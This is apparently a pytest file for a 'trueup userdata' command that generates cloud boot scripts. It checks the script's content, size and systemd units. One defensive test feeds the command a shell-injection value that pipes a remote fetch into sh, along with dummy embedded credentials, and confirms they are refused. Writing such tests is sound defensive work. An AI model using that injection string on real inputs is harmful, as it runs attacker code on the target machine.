"""trueup userdata: what it prints (the booted first boot is tests/system/test_userdata_boot.py)."""

from __future__ import annotations

import subprocess

import pytest
import yaml

from agent.commands.userdata import LIMIT
from tests.helpers import REPO

WHEEL = "/srv/wheels/trueup-0.1.0-py3-none-any.whl"


def test_shell_user_data_embeds_install_sh_and_the_configuration(trueup):
    done = trueup("userdata", "--wheel", WHEEL, "--source", "ssm:/trueup/prod", "--env", "prod",
                  "--role", "web", "--runlist", "base,web")
    assert done.returncode == 0, done.stderr
    text = done.stdout
    assert text.startswith("#!/bin/bash\n")
    assert len(text.encode()) < LIMIT
    assert (REPO / "ami" / "install.sh").read_text() in text  # the package's, not a copy
    assert 'source = "ssm:/trueup/prod"\nenv = "prod"\nrole = "web"\nrunlist = "base,web"\n' \
        in text
    assert f"wheel='{WHEEL}'" in text
    assert "run --event setup" in text
    assert "systemctl enable trueup-shutdown.service trueup-watch.service" in text
    syntax = subprocess.run(["bash", "-n"], input=text, capture_output=True, text=True)
    assert syntax.returncode == 0, syntax.stderr


def test_without_an_install_source_the_image_must_have_trueup(trueup):
    text = trueup("userdata", "--source", "/srv/recipes", "--units", "timer").stdout
    assert "install.sh" not in text
    assert "trueup is not in this image" in text
    assert "systemctl enable trueup-shutdown.service trueup-run.timer" in text


def test_cloud_config_writes_and_runs_the_same_script(trueup):
    shell = trueup("userdata", "--index-url", "https://pypi.example/simple").stdout
    done = trueup("userdata", "--format", "cloud-config", "--index-url",
                  "https://pypi.example/simple")
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("#cloud-config\n")
    assert len(done.stdout.encode()) < LIMIT
    doc = yaml.safe_load(done.stdout)
    (entry,) = doc["write_files"]
    assert entry["content"] == shell
    assert doc["runcmd"] == [["bash", entry["path"]]]


def test_units_dir_holds_the_units(trueup):
    folder = trueup("userdata", "--units-dir").stdout.strip()
    from pathlib import Path

    names = {p.name for p in Path(folder).iterdir()}
    assert {"trueup-watch.service", "trueup-shutdown.service", "trueup-run.service",
            "trueup-run.timer"} <= names


@pytest.mark.parametrize(("args", "message"), [
    (["--index-url", "https://deploy:s3cr3t@pypi.example/simple"], "user name or password"),
    (["--wheel", "https://b.s3.amazonaws.com/t.whl?X-Amz-Signature=abc&X-Amz-Credential=x"],
     "presigned"),
    (["--source", "s3://AKIAABCDEFGHIJKLMNOP/bundle.tar.gz"], "access key id"),
    (["--runlist", "web'; curl evil | sh; '"], "holds characters"),
])
def test_secret_or_unsafe_values_are_refused(trueup, args, message):
    done = trueup("userdata", *args)
    assert done.returncode == 1
    assert done.stdout == ""
    (line,) = done.stderr.strip().splitlines()
    assert line.startswith("trueup: error: ") and message in line
    assert "s3cr3t" not in line and "abc" not in line.split("presigned")[-1]
